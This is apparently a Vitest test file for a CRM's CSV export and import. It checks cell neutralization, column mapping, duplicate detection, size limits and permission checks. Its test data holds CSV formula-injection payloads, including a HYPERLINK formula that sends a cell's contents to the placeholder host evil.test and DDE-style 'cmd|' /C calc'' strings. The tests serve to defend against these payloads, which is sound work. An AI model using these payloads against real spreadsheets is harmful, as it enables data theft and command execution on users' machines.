import { afterEach, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { MAX_IMPORT_CHARS, MAX_IMPORT_ROWS } from '../../common/domain/csv.js';
import { CALL_NAMES } from '../../common/api/contract.js';
import { isAppError } from '../../common/errors.js';
import type { Policy } from '../../common/rbac/permissions.js';
import { Dispatcher } from '../../main/core/api/dispatcher.js';
import type { Handlers } from '../../main/core/api/handlers.js';
import { silentLogger } from '../../main/util/logger.js';
import { neutralizeCell } from '../../main/crm/csv/csv-cells.js';
import { exportCompanies, exportContacts } from '../../main/crm/csv/csv-export.js';
import { importCompanies, importContacts, previewContacts } from '../../main/crm/csv/csv-import.js';
import { readCsv } from '../../main/crm/csv/csv-read.js';
import { writeCsv } from '../../main/crm/csv/csv-write.js';
import { suggestContactMapping } from '../../main/crm/csv/import-mapping.js';
import { MIGRATIONS } from '../../main/store/migrations/index.js';
import { Store } from '../../main/store/store.js';
import { makeTempDir } from '../harness/temp-dir.js';

/** The CSV as a spreadsheet reads it: raw cells, nothing restored. */
function readRows(csv: string): string[][] {
  return parse(csv, { bom: true });
}

// CSV export and import: hostile cells are neutralized on the way out and come back as typed,
// imports map columns from their headers, tell new rows from duplicates and invalid ones, and
// write all or nothing; oversized and malformed files get clear errors.

const NOW = '2026-06-01T00:00:00.000Z';
const dirs: ReturnType<typeof makeTempDir>[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) dir.remove();
});

function openStore(): Store {
  const dir = makeTempDir();
  dirs.push(dir);
  const keys = { databaseKey: randomBytes(32), fieldKey: randomBytes(32) };
  return Store.open(join(dir.path, 'clientele.db'), keys, { create: true, migrations: MIGRATIONS });
}

/** Every prefix a spreadsheet runs as a formula, and text that tests quoting and encoding. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTAB first',
  '\rCR first',
  'quote " inside, and a comma',
  'two\nlines',
  'crlf\r\ninside',
  'Zoë Ångström 李小龍 🦄',
  "'already quoted",
  '',
];

function codeOf(run: () => unknown): string | null {
  try {
    run();
    return null;
  } catch (error) {
    if (isAppError(error)) return error.code;
    throw error;
  }
}

describe('CSV cells', () => {
  it('neutralizes every dangerous first character and nothing else', () => {
    for (const prefix of ['=', '+', '-', '@', '\t', '\r']) expect(neutralizeCell(`${prefix}x`)).toBe(`'${prefix}x`);
    for (const safe of ['x=1', ' =1', 'a@b.test', '', "'x", '1-2']) expect(neutralizeCell(safe)).toBe(safe);
  });

  it('round-trips hostile cells: neutralized in the file, as typed after reading it back', () => {
    const rows = HOSTILE.map((text, index) => ({ index, text }));
    const { csv } = writeCsv(
      [
        { header: 'n', value: (row: (typeof rows)[number]) => row.index },
        { header: 'text', value: (row: (typeof rows)[number]) => row.text },
      ],
      rows,
    );
    expect(csv.startsWith('\uFEFFn,text\r\n')).toBe(true);
    // What a spreadsheet sees: no cell starts with a formula character.
    const raw = readRows(csv);
    for (const [, cell] of raw.slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(raw[1]![1]).toBe(`'${HOSTILE[0]}`);
    // What an import reads: the text as typed (a leading TAB or CR is behind the apostrophe, so trimming keeps it).
    const table = readCsv(csv);
    expect(table.columns).toEqual(['n', 'text']);
    expect(table.rows.map((row) => row.cells[1])).toEqual(HOSTILE);
  });

  it('answers TOO_LARGE past the size and row caps, VALIDATION naming the line for malformed CSV', () => {
    expect(codeOf(() => readCsv('a'.repeat(MAX_IMPORT_CHARS + 1)))).toBe('TOO_LARGE');
    expect(codeOf(() => readCsv(`email\n${'x@y.test\n'.repeat(MAX_IMPORT_ROWS + 1)}`))).toBe('TOO_LARGE');
    expect(() => readCsv('email,name\n"a@b.test,Ann\n')).toThrow(/not closed/);
    expect(() => readCsv('email,name\na@b.test,Ann\nb@b.test,Bob,extra\n')).toThrow(
      /line 3 does not have as many fields/,
    );
    expect(() => readCsv('')).toThrow(/empty/);
  });
});

describe('import mapping', () => {
  it('suggests fields from common headers, each field once', () => {
    expect(
      suggestContactMapping([
        'E-mail Address',
        'Full Name',
        'Mobile',
        'Job Title',
        'Organisation',
        'Website',
        'Email',
        'Notes',
      ]),
    ).toEqual({
      'E-mail Address': 'email',
      'Full Name': 'name',
      Mobile: 'phone',
      'Job Title': 'title',
      Organisation: 'company',
      Website: 'companyDomain',
      Email: null,
      Notes: null,
    });
  });
});

describe('importing contacts', () => {
  const FILE = [
    'Email,First Name,Last Name,Phone,Company,Website',
    'ann@acme.test,Ann,Archer,+1 555 0100,Acme,https://www.acme.test/about',
    'existing@acme.test,Exi,Sting,,,',
    'not-an-address,Bad,Row,,,',
    ',No,Address,,,',
    'ANN@acme.test,Ann,Again,,,',
    'bob@gmail.com,Bob,,"+1 555 0101; +1 555 0102",Freelance,',
    '"=cmd@evil.test",Eve,,,,',
  ].join('\n');

  function storeWithExisting(): Store {
    const store = openStore();
    store.db.exec(`
      INSERT INTO contacts (id, name, name_derived, source, created_at, updated_at)
        VALUES (1, 'Existing', 0, 'mail', '2026-01-01', '2026-01-01');
      INSERT INTO contact_emails (address, contact_id) VALUES ('existing@acme.test', 1);
    `);
    return store;
  }

  it('previews each row as new, duplicate or invalid with the reason, writing nothing', () => {
    const store = storeWithExisting();
    const preview = previewContacts(store.csv, FILE);
    expect(preview.columns).toEqual(['Email', 'First Name', 'Last Name', 'Phone', 'Company', 'Website']);
    expect(preview.mapping).toEqual({
      Email: 'email',
      'First Name': 'firstName',
      'Last Name': 'lastName',
      Phone: 'phone',
      Company: 'company',
      Website: 'companyDomain',
    });
    expect(preview.total).toBe(7);
    expect(preview.sample[0]).toEqual([
      'ann@acme.test',
      'Ann',
      'Archer',
      '+1 555 0100',
      'Acme',
      'https://www.acme.test/about',
    ]);
    expect(preview.rows.map((row) => [row.line, row.status, row.reason, row.existingId])).toEqual([
      [2, 'new', null, null],
      [3, 'duplicate', null, 1],
      [4, 'invalid', '"not-an-address" is not an email address.', null],
      [5, 'invalid', 'No email address: every contact needs one.', null],
      [6, 'invalid', 'The same address as line 2.', null],
      [7, 'new', null, null],
      // '=' is allowed in an address (RFC 5322); the export neutralizes it again.
      [8, 'new', null, null],
    ]);
    expect(preview.counts).toEqual({ new: 3, duplicate: 1, invalid: 3 });
    expect(store.db.prepare('SELECT count(*) AS n FROM contacts').get()).toEqual({ n: 1 });
  });

  it('imports new rows with their company, skips or updates duplicates', () => {
    const store = storeWithExisting();
    const mapping = previewContacts(store.csv, FILE).mapping;
    const skipped = importContacts(store.csv, FILE, mapping, 'skip', NOW);
    expect(skipped).toMatchObject({ created: 3, updated: 0, skipped: 1, invalidCount: 3 });
    expect(skipped.invalid[0]).toEqual({ line: 4, reason: '"not-an-address" is not an email address.' });
    const ann = store.crm.getContact(store.csv.contactIdByAddress('ann@acme.test')!)!;
    expect(ann).toMatchObject({ name: 'Ann Archer', phones: ['+1 555 0100'], source: 'manual' });
    expect(ann.company).toMatchObject({ domain: 'acme.test', name: 'Acme' });
    const bob = store.crm.getContact(store.csv.contactIdByAddress('bob@gmail.com')!)!;
    // A free-mail address names no company domain: no company is made for "Freelance".
    expect(bob).toMatchObject({ name: 'Bob', phones: ['+1 555 0101', '+1 555 0102'], company: null });

    const updated = importContacts(store.csv, FILE, mapping, 'update', NOW);
    expect(updated).toMatchObject({ created: 0, updated: 4, skipped: 0 });
    expect(store.crm.getContact(1)).toMatchObject({ name: 'Exi Sting' });
    expect(exportContacts(store.csv, '2026-06-01').csv).toContain(`'=cmd@evil.test`);
  });

  it('refuses an import without an email column', () => {
    const store = storeWithExisting();
    expect(codeOf(() => importContacts(store.csv, FILE, { Email: null, 'First Name': 'name' }, 'skip', NOW))).toBe(
      'VALIDATION',
    );
  });
});

describe('export then import', () => {
  it('gives the same contacts and companies in a fresh profile, hostile names included', () => {
    const source = openStore();
    source.db.exec(`
      INSERT INTO companies (id, domain, name, source, created_at, updated_at)
        VALUES (1, 'acme.test', '=Acme+Co', 'mail', '2026-01-01', '2026-01-01'),
               (2, 'initech.test', '@Initech', 'mail', '2026-01-01', '2026-01-01');
      INSERT INTO contacts (id, name, name_derived, phones, title, source, created_at, updated_at) VALUES
        (1, '-Minus "Quoted", Name', 0, '["+1 555 0100","+1 555 0199"]', '=cmd|''/C calc''!A0', 'mail', '2026-01-01', '2026-01-01'),
        (2, 'Zoë 李 🦄
second line', 0, '[]', NULL, 'mail', '2026-01-01', '2026-01-01');
      INSERT INTO contact_emails (address, contact_id) VALUES ('minus@acme.test', 1), ('m2@acme.test', 1),
        ('zoe@initech.test', 2);
      INSERT INTO contact_companies (contact_id, company_id) VALUES (1, 1), (2, 2);
    `);
    const contacts = exportContacts(source.csv, '2026-06-01');
    expect(contacts).toMatchObject({ filename: 'clientele-contacts-2026-06-01.csv', rows: 2 });
    const companies = exportCompanies(source.csv, '2026-06-01');
    expect(companies.csv).toContain(`,'=Acme+Co,`);
    for (const cell of readRows(companies.csv).flat()) expect(cell).not.toMatch(/^[=+\-@]/);

    const target = openStore();
    const companyMapping = {
      id: null,
      name: 'name',
      domain: 'domain',
      owner: 'owner',
      contacts: null,
      created_at: null,
    } as const;
    expect(importCompanies(target.csv, companies.csv, companyMapping, 'skip', NOW)).toMatchObject({ created: 2 });
    const preview = previewContacts(target.csv, contacts.csv);
    expect(preview.counts).toEqual({ new: 2, duplicate: 0, invalid: 0 });
    expect(importContacts(target.csv, contacts.csv, preview.mapping, 'skip', NOW)).toMatchObject({ created: 2 });

    const summary = (store: Store) =>
      [1, 2].map((id) => {
        const contact = store.crm.getContact(id)!;
        return {
          name: contact.name,
          emails: contact.emails,
          phones: contact.phones,
          title: contact.title,
          company: contact.company && { name: contact.company.name, domain: contact.company.domain },
        };
      });
    expect(summary(target)).toEqual(summary(source));
  });
});

describe('permissions', () => {
  it('exports only with the export action, and imports only with create', async () => {
    const exported = { filename: 'x.csv', csv: 'id\r\n', rows: 0 };
    const handler = async () => exported;
    const all = Object.fromEntries(CALL_NAMES.map((name) => [name, handler])) as unknown as Handlers;
    const viewer: Policy = {
      source: 'server',
      userId: 'u',
      permissions: { contact: { view: 'all', edit: 'all' }, company: { view: 'all', export: 'all' } },
    };
    const dispatcher = new Dispatcher(all, { current: () => viewer }, silentLogger());
    const caller = { transport: 'in-process' } as const;
    expect(await dispatcher.dispatch(caller, 'contacts.export', {})).toMatchObject({
      ok: false,
      error: { code: 'FORBIDDEN' },
    });
    expect(await dispatcher.dispatch(caller, 'companies.export', {})).toEqual({ ok: true, value: exported });
    expect(
      await dispatcher.dispatch(caller, 'contacts.import', { csv: 'email\n', mapping: { email: 'email' } }),
    ).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });
});
